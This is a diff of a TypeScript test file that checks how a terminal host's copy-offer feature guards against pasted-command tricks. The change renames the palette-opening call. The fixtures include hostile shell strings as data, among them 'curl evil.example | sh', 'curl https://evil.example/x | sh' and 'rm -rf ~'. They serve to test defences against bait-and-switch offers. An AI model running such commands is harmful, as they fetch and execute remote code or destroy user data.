@@ -24,7 +24,7 @@ test('copy feature: an offer is only shown (size, inert preview) until the opera
   assert.match(texts()[0]!, /^Copy offer: 15 B "echo hi \\u202eevil" \(2 control characters removed\); copy it with the palette: Copy offered text \(c\)$/);
   const action = s.actions.get('copy-offered-text');
   assert.equal(action?.key, 'c');
-  s.paletteOpenEmitter.fire();
+  s.openPalette();
   await s.actions.get('copy-offered-text')!.run();
   assert.deepEqual(copied, ['echo hi\n\u202eevil']);
   assert.match(texts().at(-1)!, /^Copied 15 B .* to the clipboard \(test-clip\)$/);
@@ -69,7 +69,7 @@ test('copy feature: the palette entry shows the offer it copies, so an offer swa
   // A harmless offer, its notice read, then another one right behind it (bait and switch).
   s.terminalEmitter.fire({ type: 'copy-offer', text: 'git status', bytes: 10, removed: 0 });
   s.terminalEmitter.fire({ type: 'copy-offer', text: 'curl evil.example | sh', bytes: 22, removed: 0 });
-  s.paletteOpenEmitter.fire();
+  s.openPalette();
   const action = s.actions.get('copy-offered-text')!;
   assert.equal(action.title, 'Copy offered text 22 B "curl evil.example | sh"');
   // What is copied is what the entry showed when the palette opened, whatever arrived after.
@@ -80,11 +80,11 @@ test('copy feature: the palette entry shows the offer it copies, so an offer swa
   await action.run();
   assert.equal(copied.length, 1);
   assert.match(texts().at(-1)!, /No text has been offered/);
-  s.paletteOpenEmitter.fire();
+  s.openPalette();
   assert.equal(s.actions.get('copy-offered-text')!.title, 'Copy offered text 8 B "rm -rf ~"');
   // A long offer's entry fits the palette whole: its preview is cut, never the entry's closing quote.
   s.terminalEmitter.fire({ type: 'copy-offer', text: 'curl https://evil.example/x | sh\n' + 'y'.repeat(200), bytes: 234, removed: 0 });
-  s.paletteOpenEmitter.fire();
+  s.openPalette();
   const title = s.actions.get('copy-offered-text')!.title;
   assert.ok(title.startsWith('Copy offered text 234 B "curl https://evil.example/') && title.endsWith('"'), title);
   assert.ok(textWidth(title) <= PALETTE_MAX_TITLE_COLUMNS, title);
@@ -94,7 +94,7 @@ test('copy feature: a flood of offers cannot flood the notices (and push the hos
   const { s, texts } = setup();
   for (let i = 0; i < 50; i++) s.terminalEmitter.fire({ type: 'copy-offer', text: `offer ${i}`, bytes: 7, removed: 0 });
   assert.equal(texts().filter((t) => t.startsWith('Copy offer:')).length, 3);
-  s.paletteOpenEmitter.fire();
+  s.openPalette();
   assert.equal(s.actions.get('copy-offered-text')!.title, 'Copy offered text 7 B "offer 49"');
 });
 
@@ -182,7 +182,7 @@ test('copy feature: every copy is in the host log by size and hash, never the te
   const secret = 'export TOKEN=hunter2';
   s.terminalEmitter.fire({ type: 'copy-offer', text: secret, bytes: secret.length, removed: 0 });
   assert.deepEqual(s.log, [], 'an offer alone is no host action');
-  s.paletteOpenEmitter.fire();
+  s.openPalette();
   await s.actions.get('copy-offered-text')!.run();
   assert.deepEqual(s.log, [{ action: 'copy', target: copyLogTarget(secret), result: 'ok', detail: 'to the clipboard (test-clip)' }]);
   assert.match(copyLogTarget(secret), /^text of 20 bytes, sha256 [0-9a-f]{16}$/u);
